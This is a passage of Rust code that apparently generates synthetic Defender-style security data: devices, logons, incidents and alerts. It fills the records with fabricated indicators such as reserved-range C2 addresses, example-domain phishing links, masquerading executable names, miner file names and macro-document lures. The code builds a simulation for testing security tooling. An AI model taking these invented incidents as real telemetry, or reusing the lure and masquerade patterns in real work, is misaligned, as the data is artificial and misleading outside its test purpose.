            self.start + rng.between(0, (span / 50).clamp(1, DAY))
        } else {
            self.start + rng.between(0, span * 9 / 10)
        };
        let health = rng.weighted(HEALTH);
        let last = if health == "Inactive" {
            if self.now - first > 8 * DAY {
                first + rng.between(0, self.now - 7 * DAY - first)
            } else {
                (first + self.now) / 2
            }
        } else {
            self.now - rng.between(0, (self.now - first).min(DAY))
        }
        .max(first);

        // Tags and value.
        let vip = !server && rng.chance(0.02);
        if rng.chance(0.6) {
            tags.push(SITES[site].city.into());
        }
        if server {
            if fam == Fam::Win {
                tags.push("Server".into());
            }
            tags.push(if rng.chance(0.7) { "Production" } else { "Staging" }.into());
            if role_info.is_some_and(|r| r.code.eq_ignore_ascii_case("web")) && rng.chance(0.5) {
                tags.push("DMZ".into());
            }
        } else if rng.chance(0.35) {
            tags.push(rng.pick(DEPARTMENTS).into());
        }
        if vip {
            tags.push("VIP".into());
        }
        let device_value = if vip || role_info.is_some_and(|r| r.high_value && rng.chance(0.8)) {
            "High"
        } else {
            rng.weighted(&[("Normal", 95), ("Low", 3), ("High", 2)])
        };
        let risk = if health == "Inactive" && rng.chance(0.5) {
            "None"
        } else if hot {
            rng.weighted(&[("None", 5), ("Informational", 5), ("Low", 15), ("Medium", 35), ("High", 40)])
        } else {
            rng.weighted(&[("None", 45), ("Informational", 8), ("Low", 22), ("Medium", 18), ("High", 7)])
        };
        let exposure = if server {
            rng.weighted(&[("None", 2), ("Low", 20), ("Medium", 53), ("High", 25)])
        } else {
            rng.weighted(&[("None", 3), ("Low", 35), ("Medium", 52), ("High", 10)])
        };

        let (processor, arch) = match os {
            Os::Mac if rng.chance(0.7) => ("arm64", "64-bit"),
            Os::Win11 if laptop && rng.chance(0.05) => ("arm64", "64-bit"),
            Os::Win10 if rng.chance(0.02) => ("x86", "32-bit"),
            _ => ("x64", "64-bit"),
        };
        let agent_version = match fam {
            Fam::Win => format!("10.8760.{}.{}", ver.build.unwrap_or_default(), rng.between(ver.ubr.0, ver.ubr.1)),
            Fam::Mac => format!("101.24{:03}.{:04}", rng.between(60, 100), rng.between(1, 20)),
            Fam::Linux => format!("101.24{:03}.{:04}", rng.between(50, 100), rng.between(1, 20)),
        };
        let av_status = rng.weighted(&[("Updated", 88), ("NotUpdated", 9), ("Disabled", 3)]);
        let aad_joined = fam == Fam::Win && !os.server() && rng.chance(0.85);
        let managed_by = match (fam, os.server()) {
            (Fam::Win, false) => rng.weighted(&[("Intune", 80), ("MicrosoftDefender", 10), ("Unknown", 10)]),
            (Fam::Win, true) => rng.weighted(&[("MicrosoftDefender", 50), ("Unknown", 50)]),
            (Fam::Mac, _) => rng.weighted(&[("Intune", 70), ("Unknown", 30)]),
            (Fam::Linux, _) => rng.weighted(&[("MicrosoftDefender", 40), ("Unknown", 60)]),
        };
        let vm_metadata = cloud.then(|| {
            let subscription = &self.subscriptions[sub];
            let code = role_info.map_or("app", |r| r.code).to_ascii_lowercase();
            serde_json::json!({
                "vmId": rng.guid(),
                "cloudProvider": "Azure",
                "resourceId": format!(
                    "/subscriptions/{subscription}/resourceGroups/rg-{code}-prod/providers/Microsoft.Compute/virtualMachines/{short}"
                ),
                "subscriptionId": subscription,
            })
        });

        let mut machine = Machine {
            id: rng.hex_string(20),
            merged_into_machine_id: None,
            is_potential_duplication: rng.chance(0.003),
            is_excluded: false,
            exclusion_reason: None,
            computer_dns_name: dns.clone(),
            first_seen: at(first),
            last_seen: at(last),
            os_platform: os.platform().into(),
            os_version: ver.os_version.map(Into::into),
            os_processor: processor.into(),
            version: Some(ver.version.into()),
            last_ip_address: Some(ip),
            last_external_ip_address: Some(external),
            agent_version: Some(agent_version),
            os_build: ver.build,
            health_status: health.into(),
            device_value: Some(device_value.into()),
            rbac_group_id: 0,
            rbac_group_name: None,
            risk_score: Some(risk.into()),
            exposure_level: Some(exposure.into()),
            is_aad_joined: aad_joined,
            aad_device_id: aad_joined.then(|| rng.guid()),
            machine_tags: tags,
            defender_av_status: Some(av_status.into()),
            onboarding_status: "Onboarded".into(),
            os_architecture: Some(arch.into()),
            managed_by: Some(managed_by.into()),
            managed_by_status: Some(if managed_by == "Unknown" { "Unknown" } else { "Managed" }.into()),
            ip_addresses,
            vm_metadata,
        };
        let (gid, gname) = self.groups.assign(&machine);
        machine.rbac_group_id = gid;
        machine.rbac_group_name = gname;

        // Who uses it.
        let mut accounts: Vec<(Acct, Use)> = Vec::with_capacity(4);
        let add = |accounts: &mut Vec<(Acct, Use)>, a: Acct, u: Use| {
            if !accounts.iter().any(|(x, _)| *x == a) {
                accounts.push((a, u));
            }
        };
        let admins = u64::from(self.admins);
        let users = u64::from(self.users);
        match fam {
            Fam::Win if !os.server() => {
                add(&mut accounts, Acct::User(owner.unwrap_or_default()), Use::Owner);
                if rng.chance(0.3) {
                    add(&mut accounts, Acct::Admin(rng.below(admins) as u32), Use::Helpdesk);
                }
                if rng.chance(0.1) {
                    add(&mut accounts, Acct::User(rng.below(users) as u32), Use::Shared);
                }
                if rng.chance(0.05) {
                    add(&mut accounts, Acct::LocalAdmin, Use::LocalAdmin);
                }
            }
            Fam::Win => {
                add(&mut accounts, Acct::Admin(rng.below(admins) as u32), Use::AdminRdp);
                if rng.chance(0.5) {
                    add(&mut accounts, Acct::Admin(rng.below(admins) as u32), Use::AdminRdp);
                }
                if let Some(s) = role_info.and_then(|r| r.service) {
                    add(&mut accounts, Acct::Service(s), Use::Service);
                }
                if role_info.is_some_and(|r| r.network_users) {
                    for _ in 0..rng.between(1, 5) {
                        add(&mut accounts, Acct::User(rng.below(users) as u32), Use::NetworkOnly);
                    }
                }
                if rng.chance(0.1) {
                    add(&mut accounts, Acct::LocalAdmin, Use::LocalAdmin);
                }
            }
            Fam::Mac => add(&mut accounts, Acct::LocalUser(owner.unwrap_or_default()), Use::Owner),
            Fam::Linux => {
                add(&mut accounts, Acct::Local("root"), Use::Root);
                let default_user = match ver.variant {
                    _ if cloud => "azureuser",
                    0 | 1 => "ubuntu",
                    2 => "cloud-user",
                    _ => "admin",
                };
                add(&mut accounts, Acct::Local(default_user), Use::NetworkOnly);
                if rng.chance(0.4) {
                    add(&mut accounts, Acct::Local("deploy"), Use::Batch);
                }
            }
        }

        let host = Host {
            id: machine.id.clone(),
            dns,
            short,
            rbac: machine.rbac_group_name.clone(),
            os,
            variant: ver.variant,
            first,
            last,
            accounts,
            local_sid: [0; 3].map(|_: u32| 1_000_000_000 + rng.below(3_000_000_000) as u32),
        };

        // Logons.
        for &(a, u) in &host.accounts {
            let who = self.who(&host, a);
            let mut types: Vec<&'static str> = Vec::with_capacity(3);
            match u {
                Use::Owner => {
                    types.push("Interactive");
                    if fam == Fam::Win && rng.chance(0.5) {
                        types.push("Network");
                    }
                    if laptop && fam == Fam::Win && rng.chance(0.3) {
                        types.push("CachedInteractive");
                    }
                }
                Use::Helpdesk => types.push(rng.pick(&["Network", "RemoteInteractive"])),
                Use::Shared | Use::LocalAdmin => types.push("Interactive"),
                Use::AdminRdp => {
                    types.push("RemoteInteractive");
                    if rng.chance(0.5) {
                        types.push("Network");
                    }
                }
                Use::Service => types.push(rng.pick(&["Service", "Batch"])),
                Use::NetworkOnly => types.push("Network"),
                Use::Root => {
                    types.push("Network");
                    if rng.chance(0.2) {
                        types.push("Interactive");
                    }
                }
                Use::Batch => types.push("Batch"),
            }
            for (k, t) in types.into_iter().enumerate() {
                let time = if k == 0 {
                    first + rng.between(0, (last - first).min(4 * HOUR))
                } else {
                    rng.between(first, last + 1)
                };
                out.logons.push(Logon {
                    machine_id: host.id.clone(),
                    account_domain: who.domain.clone(),
                    account_name: who.name.clone(),
                    account_sid: who.sid.clone(),
                    logon_type: t.into(),
                    is_domain_admin: who.admin,
                    time: at(time),
                });
            }
        }

        // Benign sightings of everyday binaries, domains and the site's DNS server.
        let mut sight = |key: EntityKey, file_name: Option<&str>, rng: &mut Rng| {
            out.observations.push(Observation {
                key,
                machine_id: host.id.clone(),
                time: at(rng.between(first, last + 1)),
                file_name: file_name.map(Into::into),
            });
        };
        let files: &[(C, f64)] = match (fam, os.server()) {
            (Fam::Win, false) => &[
                (C::Explorer, 1.0),
                (C::Svchost, 1.0),
                (C::PowerShell, 0.9),
                (C::Cmd, 0.9),
                (C::Msedge, 0.9),
                (C::Chrome, 0.4),
                (C::Winword, 0.7),
                (C::Excel, 0.6),
                (C::Outlook, 0.75),
                (C::Rundll32, 0.5),
            ],
            (Fam::Win, true) => {
                &[(C::Svchost, 1.0), (C::Services, 1.0), (C::PowerShell, 1.0), (C::Cmd, 0.9), (C::WmiPrvSE, 0.6)]
            }
            (Fam::Mac, _) => &[(C::MacZsh, 1.0), (C::MacCurl, 0.9), (C::MacPython, 0.4), (C::Osascript, 0.3)],
            (Fam::Linux, _) => {
                &[(C::LinuxBash, 1.0), (C::Sshd, 1.0), (C::LinuxCurl, 0.9), (C::LinuxPython, 0.6), (C::Wget, 0.4)]
            }
        };
        let role_file = match role_info.map(|r| r.code) {
            Some("SQL") => Some(C::Sqlservr),
            Some("WEB") => Some(C::W3wp),
            Some("web") | Some("app") => Some(C::Java),
            _ => None,
        };
        for &(c, p) in files.iter().chain(role_file.map(|c| (c, 1.0)).as_slice()) {
            if rng.chance(p) {
                sight(EntityKey::File(self.hashes(c, &host).sha1.clone()), Some(c.info().name), rng);
            }
        }
        let domains: &[(&str, f64)] = match fam {
            Fam::Win => &[
                ("login.microsoftonline.com", 1.0),
                ("officeclient.microsoft.com", 0.7),
                ("teams.microsoft.com", 0.6),
                ("www.bing.com", 0.4),
            ],
            Fam::Mac => &[("login.microsoftonline.com", 1.0), ("swscan.apple.com", 0.9)],
            Fam::Linux => &[("packages.microsoft.com", 0.9), ("archive.ubuntu.com", 0.5)],
        };
        for &(d, p) in domains {
            if rng.chance(p) {
                sight(EntityKey::Domain(d.into()), None, rng);
            }
        }
        if !cloud {
            sight(EntityKey::Ip(format!("10.{octet}.0.10")), None, rng);
        }

        out.machines.push(MachineRecord {
            machine,
            state: DeviceState { offline: health == "Inactive", ..DeviceState::default() },
        });
        self.hosts.push(host);
    }

    // --- alerts and incidents ---

    /// A device for an incident around time `t` (active then if possible); a third of the picks
    /// go to the 2% "noisy" devices.
    fn pick_host(&self, rng: &mut Rng, t: i64, ok: impl Fn(usize, &Host) -> bool) -> Option<usize> {
        let n = self.hosts.len();
        let mut fallback = None;
        for _ in 0..24 {
            let i = if rng.chance(0.35) { rng.idx(self.hot.min(n)) } else { rng.idx(n) };
            let h = &self.hosts[i];
            if !ok(i, h) {
                continue;
            }
            fallback.get_or_insert(i);
            if h.first <= t && t <= h.last {
                return Some(i);
            }
        }
        fallback
    }

    /// The incident's payload. Stories that spread to other devices (`machine_wide`) stage it in
    /// folders every device has, not in the first victim's profile.
    fn dropped(&self, rng: &mut Rng, pk: Pk, user: &str, stem: &str, machine_wide: bool) -> Dropped {
        let rand = {
            let mut s = String::new();
            rng.chars(&mut s, 8, b"abcdefghijklmnopqrstuvwxyz0123456789");
            s
        };
        let vars = Vars { user, stem, rand: &rand, ..Vars::default() };
        let (name, dir): (String, &str) = match pk {
            Pk::Exe | Pk::Dll => (
                format!("{stem}.{}", if pk == Pk::Exe { "exe" } else { "dll" }),
                if machine_wide {
                    rng.pick(&[r"C:\Windows\Temp", r"C:\PerfLogs", r"C:\ProgramData\@RAND@", r"C:\Users\Public"])
                } else {
                    rng.pick(&[
                        r"C:\Users\@USER@\AppData\Local\Temp",
                        r"C:\Users\@USER@\AppData\Roaming\@RAND@",
                        r"C:\ProgramData\@RAND@",
                        r"C:\Users\Public",
                        r"C:\Windows\Temp",
                    ])
                },
            ),
            Pk::Installer => (
                rng.pick(&[
                    "FastPdfMergeSetup.exe",
                    "MediaGrabberSetup.exe",
                    "CouponFinderSetup.exe",
                    "FreeZipToolSetup.exe",
                ])
                .into(),
                r"C:\Users\@USER@\Downloads",
            ),
            Pk::MacApp => {
                let app = rng.pick(&["SearchMate", "WebShopper", "VideoTune", "MacBooster Lite"]);
                return self.finish_drop(rng, app.into(), format!("/Applications/{app}.app/Contents/MacOS"), "/");
            }
            Pk::MacBin => (stem.into(), "/Users/@USER@/Library/Application Support/.@STEM@"),
            Pk::Elf => (
                rng.pick(&["kdevtmpfsi", "kworkerds", "dbused", "sysupdate", stem]).into(),
                rng.pick(&["/tmp/.@STEM@", "/var/tmp/.@STEM@", "/dev/shm"]),
            ),
        };
        let sep = if matches!(pk, Pk::MacBin | Pk::Elf) { "/" } else { "\\" };
        self.finish_drop(rng, name, vars.fill(dir), sep)
    }

    fn finish_drop(&self, rng: &mut Rng, name: String, dir: String, sep: &str) -> Dropped {
        let full = format!("{dir}{sep}{name}");
        Dropped { name, dir, full, hashes: Hashes::random(rng) }
    }

    fn dropped_file_info(
        &self,
        rng: &mut Rng,
        d: &Dropped,
        pk: Option<Pk>,
        verdict: Option<(&str, &str)>,
        t: i64,
    ) -> FileInfo {
        let (file_type, pe, size) = match pk {
            Some(Pk::Exe | Pk::Installer) => ("APP", true, rng.between(80_000, 4_000_000)),
            Some(Pk::Dll) => ("APP", true, rng.between(100_000, 900_000)),
            Some(Pk::MacBin | Pk::MacApp) => ("APP", false, rng.between(200_000, 12_000_000)),
            Some(Pk::Elf) => ("APP", false, rng.between(500_000, 8_000_000)),
            None => ("Document", false, rng.between(40_000, 300_000)),
        };
        FileInfo {
            sha1: d.hashes.sha1.clone(),
            sha256: Some(d.hashes.sha256.clone()),
            md5: Some(d.hashes.md5.clone()),
            global_prevalence: Some(rng.between(1, 40)),
            global_first_observed: Some(at(t - rng.between(MIN, 2 * DAY))),
            global_last_observed: Some(at((t + rng.between(0, 3 * DAY)).min(self.now))),
            size: Some(size),
            file_type: Some(file_type.into()),
            is_pe_file: pe,
            determination_type: Some(verdict.map_or("Unknown", |v| v.0).into()),
            determination_value: verdict.map(|v| v.1.into()),
            ..FileInfo::default()
        }
    }

    /// One incident and its alerts; returns how many alerts it made (at most what is left of
    /// the budget, at least 1).
    fn incident(&mut self, rng: &mut Rng, ordinal: i64, done: usize, out: &mut Fleet) -> usize {
        let total = self.opts.alerts;
        // Incidents are laid out in time in alert order, so ids grow with creation time.
        let frac = ((done as f64 + rng.unit()) / total as f64).min(1.0);
        let mut t0 = self.start + ((self.now - self.start) as f64 * frac) as i64;
        let primary = self.pick_host(rng, t0, |_, _| true).expect("there are hosts");
        let (os, pfirst, plast) = {
            let h = &self.hosts[primary];
            (h.os, h.first, h.last)
        };
        t0 = t0.clamp(pfirst, plast.max(pfirst));
        let fam = os.fam();
        let scen = &SCENARIOS
            [rng.weighted_by(SCENARIOS, |s| if s.fam != fam || (os.server() && !s.servers) { 0 } else { s.weight })];

        // Which alerts of the story: an ordered subset holding the anchor.
        let len = scen.chain.len();
        let k = (rng.between(scen.min as i64, len as i64 + 1) as usize).min(MAX_ALERTS).clamp(1, total - done);
        let mut chosen: Vec<usize> = vec![scen.anchor];
        let mut others: Vec<usize> = (0..len).filter(|&i| i != scen.anchor).collect();
        for _ in 1..k {
            let j = rng.idx(others.len());
            chosen.push(others.swap_remove(j));
        }
        chosen.sort_unstable();
        let tpls: Vec<&Tpl> = chosen.iter().map(|&i| scen.chain[i]).collect();

        // Devices reached by lateral movement (Windows only), else the first device again.
        let mut slots = [primary; 3];
        for s in 1..3u8 {
            if tpls.iter().any(|t| t.slot == s) {
                let taken = slots;
                let prefer_server = rng.chance(0.5);
                let pick = |rng: &mut Rng, server_only: bool| {
                    self.pick_host(rng, t0, |i, h| {
                        h.os.fam() == Fam::Win
                            && !taken[..usize::from(s)].contains(&i)
                            && (!server_only || h.os.server())
                    })
                };
                let got = if prefer_server { pick(rng, true).or_else(|| pick(rng, false)) } else { pick(rng, false) };
                slots[usize::from(s)] = got.unwrap_or(primary);
            }
        }

        // The incident's user, strings and files.
        let ph = &self.hosts[primary];
        let acct = if rng.chance(0.7) { ph.accounts[0].0 } else { rng.pick(&ph.accounts).0 };
        let profile = self.who(ph, acct).name;
        let family = (!scen.families.is_empty()).then(|| rng.pick(scen.families));
        let stem = {
            let mut s = String::new();
            if fam == Fam::Win {
                s.push_str(rng.pick(&[
                    "svchostx",
                    "winupdate",
                    "msedgeupd",
                    "onedrivesync",
                    "igfxhelper",
                    "runtimebrkr",
                    "taskhostsvc",
                    "wuauclt32",
                    "chromeupd",
                    "securityhealth64",
                ]));
                if rng.chance(0.5) {
                    s.push_str(&rng.between(10, 100).to_string());
                }
            } else {
                rng.chars(&mut s, 7, b"abcdefghijklmnopqrstuvwxyz");
            }
            s
        };
        let b64 = {
            let mut s = String::from("JAB");
            let n = 4 * rng.between(20, 60) as usize - 3;
            rng.chars(&mut s, n, b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/");
            s
        };
        let c2_ip = format!("192.0.2.{}", rng.between(1, 255));
        let c2_host = format!(
            "{}-{}.example.{}",
            rng.pick(&["cdn", "update", "sync", "telemetry", "static", "api", "edge", "files", "metrics", "portal"]),
            rng.pick(&["cloud", "check", "host", "service", "data", "hub", "node", "relay", "gate", "mirror"]),
            rng.pick(&["com", "net", "org"])
        );
        let url = format!(
            "https://{c2_host}/{}",
            rng.pick(&["gate.php", "jquery-3.3.1.min.js", "submit.php", "api/v2/beacon", "pixel.gif", "invoice.zip"])
        );
        let phish_host = format!(
            "{}.example.{}",
            rng.pick(&["m365-login", "sharepoint-docs", "docusign-review", "onedrive-share", "secure-mail"]),
            rng.pick(&["com", "net", "org"])
        );
        let phish = format!("https://{phish_host}/{}", rng.pick(&["signin", "auth/login", "view/document", "verify"]));

        let verdict = family.map(|f| (scen.payload_verdict, f.1)).filter(|v| v.0 != "Unknown");
        let payload = tpls.iter().any(|t| uses(t, |i| matches!(i, Img::Payload))).then(|| {
            let d = self.dropped(rng, scen.payload, &profile, &stem, tpls.iter().any(|t| t.slot > 0));
            out.files.push(self.dropped_file_info(rng, &d, Some(scen.payload), verdict, t0));
            d
        });
        let doc = tpls.iter().any(|t| uses(t, |i| matches!(i, Img::Doc))).then(|| {
            let name = format!(
                "{}_{}.{}",
                rng.pick(&["Invoice", "Remittance_Advice", "Purchase_Order", "Payroll_Adjustment"]),
                rng.between(10_000, 100_000),
                rng.pick(&["docm", "docm", "xlsm"])
            );
            let mut dir = format!(r"C:\Users\{profile}\Downloads");
            if rng.chance(0.5) {
                dir = format!(r"C:\Users\{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\");
                rng.chars(&mut dir, 8, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
            }
            let d = self.finish_drop(rng, name, dir, "\\");
            out.files.push(self.dropped_file_info(
                rng,
                &d,
                None,
                Some(("Malware", "TrojanDownloader:O97M/Donoff!MTB")),
                t0,
            ));
            d
        });
        let drop_dir = match fam {
            Fam::Win => Vars { user: &profile, ..Vars::default() }.fill(rng.pick(&[
                r"C:\Users\@USER@\Downloads",
                r"C:\Windows\Temp",
                r"C:\PerfLogs",
                r"C:\Users\Public\Documents",
            ])),
            Fam::Mac => format!("/Users/{profile}/Downloads"),
            Fam::Linux => rng.pick(&["/tmp", "/var/tmp", "/dev/shm"]).into(),
        };

        // Timeline: each alert a few minutes to an hour and a half after the previous one,
        // shifted back if it would end after `now`.
        let mut times: Vec<(i64, i64, i64)> = Vec::with_capacity(tpls.len());
        let mut t = t0;
        for tpl in &tpls {
            let first = t + rng.between(0, 5 * MIN);
            let last = if tpl.av { first } else { first + rng.between(0, 20 * MIN) };
            let created = last + rng.between(30 * SEC, 12 * MIN);
            times.push((first, last, created));
            t = last + rng.between(2 * MIN, 90 * MIN);
        }
        let latest = times.iter().map(|x| x.2).max().unwrap_or(t0);
        let shift = (latest - (self.now - MIN)).max(0);
        for x in &mut times {
            *x = ((x.0 - shift).max(self.start), (x.1 - shift).max(self.start), (x.2 - shift).max(self.start));
        }
        let last_created = times.iter().map(|x| x.2).max().unwrap_or(t0);

        // Fate: older incidents are mostly resolved.
        let age = self.now - last_created;
        let p_resolved = if age > 14 * DAY {
            0.92
        } else if age > 3 * DAY {
            0.75
        } else if age > DAY {
            0.5
        } else {
            0.2
        };
        let resolved_all = rng.chance(p_resolved);
        let triaged = resolved_all || rng.chance(0.55);
        let r = rng.below(100) as u32;
        let (classification, determination) = if r < scen.benign {
            (
                "InformationalExpectedActivity",
                if scen.verdict == "Other" {
                    "SecurityTesting"
                } else {
                    rng.pick(&["SecurityTesting", "LineOfBusinessApplication", "ConfirmedUserActivity"])
                },
            )
        } else if r < scen.benign + scen.false_positive {
            ("FalsePositive", rng.weighted(&[("Clean", 6), ("InsufficientData", 3), ("Other", 1)]))
        } else {
            ("TruePositive", scen.verdict)
        };
        let automated =
            resolved_all && scen.auto && classification == "TruePositive" && fam == Fam::Win && rng.chance(0.7);
        let analyst = format!("{}@{}", rng.pick(ANALYSTS), self.dns);
        let assigned = if automated {
            Some("Automation".to_string())
        } else if triaged {
            Some(analyst.clone())
        } else {
            None
        };
        let resolved_at = (last_created
            + if automated { rng.between(5 * MIN, 2 * HOUR) } else { rng.between(30 * MIN, 4 * DAY) })
        .min(self.now);
        let investigation = (fam == Fam::Win && rng.chance(0.55)).then(|| {
            self.next_investigation += 1;
            self.next_investigation
        });
        let open_state = rng.pick(&["Running", "PendingApproval", "Queued", "PartiallyInvestigated"]);

        let incident_id = self.first_incident + ordinal;
        // Alerts go straight into the chunk (no per-incident vector to move them out of).
        let first_alert = out.alerts.len();
        for (pos, tpl) in tpls.iter().enumerate() {
            let (first, last, created) = times[pos];
            let h = &self.hosts[slots[usize::from(tpl.slot)]];
            let acct = if h.accounts.iter().any(|(a, _)| *a == acct) { acct } else { h.accounts[0].0 };
            let who = self.who(h, acct);
            let prevented = tpl.av && rng.chance(0.75);
            let detection_status = if tpl.source == "WindowsDefenderSmartScreen" {
                "Blocked"
            } else if prevented {
                "Prevented"
            } else {
                "Detected"
            };
            let severity = if prevented && tpl.severity == "Medium" { "Low" } else { tpl.severity };
            let (threat_family, threat_name) = match tpl.threat {
                Threat::None => (None, None),
                Threat::Incident => family.map_or((None, None), |f| (Some(f.0), Some(f.1))),
                Threat::Fixed(f, n) => (Some(f), Some(n)),
            };
            let pid = if fam == Fam::Win { 4 * rng.between(150, 250) } else { rng.between(300, 65_000) }.to_string();
            let vars = Vars {
                user: &who.name,
                full: payload.as_ref().map_or("", |p| &p.full),
                url: &url,
                phish: &phish,
                ip: &c2_ip,
                host: &c2_host,
                b64: &b64,
                stem: &stem,
                family: threat_family.unwrap_or("Generic"),
                pid: &pid,
                verb: if prevented { "was prevented" } else { "was detected" },
                rand: "",
            };

            // Status.
            let status = if resolved_all {
                "Resolved"
            } else if !triaged {
                "New"
            } else {
                rng.weighted(&[("InProgress", 70), ("New", 15), ("Resolved", 15)])
            };
            let resolved_time = (status == "Resolved")
                .then(|| if resolved_all { resolved_at } else { (created + rng.between(10 * MIN, DAY)).min(self.now) });
            let last_update = match status {
                "Resolved" => resolved_time.unwrap_or(created),
                "InProgress" => (created + rng.between(5 * MIN, 2 * DAY)).min(self.now),
                _ => (created + rng.between(0, 2 * MIN)).min(self.now),
            };
            let investigation_state = match (investigation, status) {
                (Some(_), "Resolved") if classification == "TruePositive" => {
                    if rng.chance(0.85) {
                        "SuccessfullyRemediated"
                    } else {
                        "PartiallyRemediated"
                    }
                }
                (Some(_), "Resolved") => "Benign",
                (Some(_), _) => open_state,
                (None, _) if fam == Fam::Win => "UnsupportedAlertType",
                (None, _) => "UnsupportedOs",
            };
            let mut comments = Vec::new();
            if status == "InProgress" && rng.chance(0.2) {
                comments.push(Comment {
                    comment: rng.pick(WORK_NOTES).into(),
                    created_by: Some(analyst.clone()),
                    created_time: at(last_update),
                });
            }

            // Evidence.
            let title = vars.fill(tpl.title);
            let with_user = rng.chance(0.9);
            let count = usize::from(tpl.process.is_some())
                + usize::from(tpl.file.is_some())
                + usize::from(matches!(tpl.net, Net::Ip | Net::Both))
                + usize::from(matches!(tpl.net, Net::Url | Net::Both | Net::Phish))
                + usize::from(tpl.registry.is_some())
                + usize::from(with_user);
            let mut evidence: Vec<Evidence> = Vec::with_capacity(count);
            // (file name, folder, (sha1, sha256)) of what an evidence names.
            let file_of = |img: Img| -> (String, String, Option<(String, String)>) {
                let owned = |d: &Dropped| {
                    (d.name.clone(), d.dir.clone(), Some((d.hashes.sha1.clone(), d.hashes.sha256.clone())))
                };
                let c = match img {
                    Img::Cat(c) => c,
                    Img::Launcher => scen.launcher,
                    Img::Payload => return payload.as_ref().map_or((String::new(), String::new(), None), owned),
                    Img::Doc => return doc.as_ref().map_or((String::new(), String::new(), None), owned),
                };
                let info = c.info();
                let dir = if info.dir.is_empty() { drop_dir.clone() } else { info.dir.to_string() };
                let hs = self.hashes(c, h);
                (info.name.to_string(), dir, Some((hs.sha1.clone(), hs.sha256.clone())))
            };
            let evidence_time = Some(at(created));
            if let Some(p) = tpl.process {
                let (name, dir, hs) = file_of(p.image);
                let (parent_name, parent_dir, _) = file_of(p.parent);
                let (sha1, sha256) = hs.expect("process image has hashes");
                let process_created = (first - rng.between(0, 2 * MIN)).max(self.start);
                let parent_created =
                    (process_created - rng.between(MIN, 2 * DAY)).max(self.start.max(h.first.min(process_created)));
                let win_pid = |rng: &mut Rng| {
                    if fam == Fam::Win { 4 * rng.between(250, 8_000) } else { rng.between(300, 65_000) }
                };
                evidence.push(Evidence {
                    entity_type: "Process".into(),
                    evidence_creation_time: evidence_time,
                    sha1: Some(sha1),
                    sha256: Some(sha256),
                    file_name: Some(name),
                    file_path: Some(dir),
                    process_id: Some(win_pid(rng)),
                    process_command_line: Some(vars.fill(p.cmd)),
                    process_creation_time: Some(at(process_created)),
                    parent_process_id: Some(win_pid(rng)),
                    parent_process_creation_time: Some(at(parent_created)),
                    parent_process_file_name: Some(parent_name),
                    parent_process_file_path: Some(parent_dir),
                    detection_status: Some(detection_status.into()),
                    ..Evidence::default()
                });
            }
            if let Some(img) = tpl.file {
                let (name, dir, hs) = file_of(img);
                let (sha1, sha256) = hs.expect("file evidence has hashes");
                evidence.push(Evidence {
                    entity_type: "File".into(),
                    evidence_creation_time: evidence_time,
                    sha1: Some(sha1),
                    sha256: Some(sha256),
                    file_name: Some(name),
                    file_path: Some(dir),
                    detection_status: Some(detection_status.into()),
                    ..Evidence::default()
                });
            }
            if matches!(tpl.net, Net::Ip | Net::Both) {
                evidence.push(Evidence {
                    entity_type: "Ip".into(),
                    evidence_creation_time: evidence_time,
                    ip_address: Some(c2_ip.clone()),
                    detection_status: Some(detection_status.into()),
                    ..Evidence::default()
                });
            }
            if matches!(tpl.net, Net::Url | Net::Both | Net::Phish) {
                let u = if tpl.net == Net::Phish { &phish } else { &url };
                evidence.push(Evidence {
                    entity_type: "Url".into(),
                    evidence_creation_time: evidence_time,
                    url: Some(u.clone()),
                    detection_status: Some(detection_status.into()),
                    ..Evidence::default()
                });
            }
            if let Some(reg) = tpl.registry {
                evidence.push(Evidence {
                    entity_type: "Registry".into(),
                    evidence_creation_time: evidence_time,
                    registry_key: Some(reg.key.into()),
                    registry_hive: Some(reg.hive.into()),
                    registry_value_type: Some(reg.kind.into()),
                    registry_value: Some(vars.fill(reg.value)),
                    detection_status: Some(detection_status.into()),
                    ..Evidence::default()
                });
            }
            let related_user =
                with_user.then(|| RelatedUser { user_name: who.name.clone(), domain_name: who.domain.clone() });
            if with_user {
                evidence.push(Evidence {
                    entity_type: "User".into(),
                    evidence_creation_time: evidence_time,
                    account_name: Some(who.name),
                    domain_name: Some(who.domain),
                    user_sid: who.sid,
                    aad_user_id: who.aad,
                    user_principal_name: who.upn,
                    ..Evidence::default()
                });
            }

            let n = (done + pos) as u32;
            out.alerts.push(Alert {
                id: format!("da{}_{}", created + DOTNET_UNIX_EPOCH_TICKS, mix32(n ^ self.alert_salt) as i32),
                incident_id: Some(incident_id),
                investigation_id: investigation,
                assigned_to: if status == "New" { None } else { assigned.clone() },
                severity: severity.into(),
                status: status.into(),
                classification: (status == "Resolved").then(|| classification.into()),
                determination: (status == "Resolved").then(|| determination.into()),
                investigation_state: Some(investigation_state.into()),
                detection_source: tpl.source.into(),
                detector_id: self.detectors.get(tpl.title).cloned(),
                category: tpl.category.into(),
                threat_family_name: threat_family.map(Into::into),
                title,
                description: tpl.description.into(),
                alert_creation_time: Some(at(created)),
                first_event_time: Some(at(first)),
                last_event_time: Some(at(last)),
                last_update_time: Some(at(last_update)),
                resolved_time: resolved_time.map(at),
                machine_id: h.id.clone(),
                computer_dns_name: Some(h.dns.clone()),
                rbac_group_name: h.rbac.clone(),
                aad_tenant_id: self.tenant.clone(),
                threat_name: threat_name.map(Into::into),
                mitre_techniques: tpl.mitre.iter().map(|m| (*m).into()).collect(),
                related_user,
                comments,
                evidence,
            });
        }

        // Commodity payloads also turn up on a few other devices of the same platform.
        if scen.spreads
            && let Some(p) = &payload
            && rng.chance(0.3)
        {
            for _ in 0..rng.between(1, 4) {
                if let Some(i) = self.pick_host(rng, t0, |_, h| h.os.fam() == fam) {
                    let h = &self.hosts[i];
                    out.observations.push(Observation {
                        key: EntityKey::File(p.hashes.sha1.clone()),
                        machine_id: h.id.clone(),
                        time: at(rng.between(t0.max(h.first), self.now + 1)),
                        file_name: Some(p.name.clone()),
                    });
                }
            }
        }

        // The incident, consistent with its alerts.
        let alerts = &out.alerts[first_alert..];
        let all_resolved = alerts.iter().all(|a| a.status == "Resolved");
        let severity =
            alerts.iter().map(|a| a.severity.as_str()).max_by_key(|s| severity_rank(s)).unwrap_or("Informational");
        let created_time = alerts.iter().filter_map(|a| a.alert_creation_time).min().expect("alerts have times");
        let last_update_time = alerts.iter().filter_map(|a| a.last_update_time).max().expect("alerts have times");
        let devices = {
